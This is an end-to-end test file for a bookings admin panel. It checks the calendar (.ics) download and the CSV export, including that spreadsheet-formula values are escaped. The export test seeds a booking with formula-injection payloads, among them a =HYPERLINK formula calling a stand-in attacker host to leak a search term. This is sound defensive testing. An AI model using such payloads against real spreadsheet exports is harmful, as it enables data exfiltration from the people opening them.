import { buffer } from 'node:stream/consumers';
import papa from 'papaparse';
import type { Download } from 'playwright-core';
import { expect } from 'vitest';
import { spreadsheetNumber } from '#src/lib/phone.ts';
import { dayInRiyadh } from '../../../../cms/tests/fixtures/submissions.ts';
import { bookingTest, entries, entryOf, notice } from '../bookings.ts';
import { inOneLanguage } from '../test.ts';

const textOf = async (download: Download): Promise<string> => (await buffer(await download.createReadStream())).toString();

bookingTest.for(inOneLanguage('en'))(
  'downloads a booking as a calendar entry, on a $device in $spoken',
  async ({ language, device }, { visit, bookings }) => {
    const booking = await bookings.book({
      name: 'عبدالله، القحطاني; الأب',
      message: 'حفل مسائي في الهواء الطلق لنحو 120 ضيفاً.\nهل يمكن إضافة مصوّرة ثانية؟',
    });
    const tab = await visit({ language, device });
    const { page, translate } = tab;
    await bookings.openList(tab);
    const downloading = page.waitForEvent('download');
    await entryOf(tab, booking.name)
      .getByRole('button', { name: translate('admin.bookings.addToCalendar') })
      .click();
    const download = await downloading;
    await notice(tab, translate('admin.bookings.calendarSaved')).waitFor();
    expect(download.suggestedFilename()).toBe(`booking-${booking.date}.ics`);
    const lines = (await textOf(download)).replaceAll('\r\n ', '').split('\r\n');
    const day = booking.date.replaceAll('-', '');
    for (const line of [
      'METHOD:PUBLISH',
      `UID:${booking._id}@${new URL(page.url()).hostname}`,
      `DTSTART;VALUE=DATE:${day}`,
      `SUMMARY:${translate('package.wedding')}: عبدالله، القحطاني\\; الأب`,
      `LOCATION:${booking.location}`,
      'STATUS:TENTATIVE',
    ])
      expect(lines).toContain(line);
    const description = lines.find((line) => line.startsWith('DESCRIPTION:'));
    expect(description).toContain(`${booking.phone}\\n`);
    expect(description).toContain(booking.email);
    expect(description).toContain('حفل مسائي في الهواء الطلق لنحو 120 ضيفاً.\\nهل يمكن إضافة مصوّرة ثانية؟');
  },
);

bookingTest.for(inOneLanguage('ar'))(
  'exports the shown bookings as a spreadsheet, on a $device in $spoken',
  async ({ language, device }, { visit, bookings }) => {
    const hostile = await bookings.book({
      name: `=HYPERLINK("http://evil.example/${bookings.searchTerm}","Sara")`,
      phone: '0550123456',
      location: '@SUM(A1)',
      message: '+1+1\n"quoted", and more\n=2',
    });
    const arabic = await bookings.book(
      { name: `سارة ${bookings.searchTerm}`, message: 'حفلة، عائلية' },
      { lang: 'ar', status: 'confirmed' },
    );
    const tab = await visit({ language, device });
    const { page, translate } = tab;
    await bookings.openList(tab);
    await expect.poll(() => entries(tab).count()).toBe(2);
    const downloading = page.waitForEvent('download');
    await page.getByRole('button', { name: translate('admin.bookings.export') }).click();
    const download = await downloading;
    expect(download.suggestedFilename()).toBe(`bookings-${dayInRiyadh()}.csv`);
    const file = await textOf(download);
    expect(file.startsWith('\uFEFF')).toBe(true);
    const { data, errors } = papa.parse<string[]>(file.slice(1), { skipEmptyLines: true, newline: '\r\n' });
    expect(errors).toEqual([]);
    const columns = ['received', 'name', 'phone', 'email', 'package', 'date', 'time', 'location', 'status', 'language', 'message'] as const;
    expect(data).toEqual([
      columns.map((column) => translate(`admin.bookings.${column}`)),
      [
        expect.stringMatching(/^\d{4}-\d\d-\d\d \d\d:\d\d$/u),
        arabic.name,
        spreadsheetNumber(arabic.phone),
        arabic.email,
        translate('package.wedding'),
        arabic.date,
        '',
        arabic.location,
        translate('admin.bookings.status.confirmed'),
        translate('admin.bookings.language.ar'),
        arabic.message,
      ],
      [
        expect.stringMatching(/^\d{4}-\d\d-\d\d \d\d:\d\d$/u),
        `'${hostile.name}`,
        '00966-55-012-3456',
        hostile.email,
        translate('package.wedding'),
        hostile.date,
        '',
        `'${hostile.location}`,
        translate('admin.bookings.status.pending'),
        translate('admin.bookings.language.en'),
        `'${hostile.message.replace('\n=', "\n'=")}`,
      ],
    ]);
  },
);
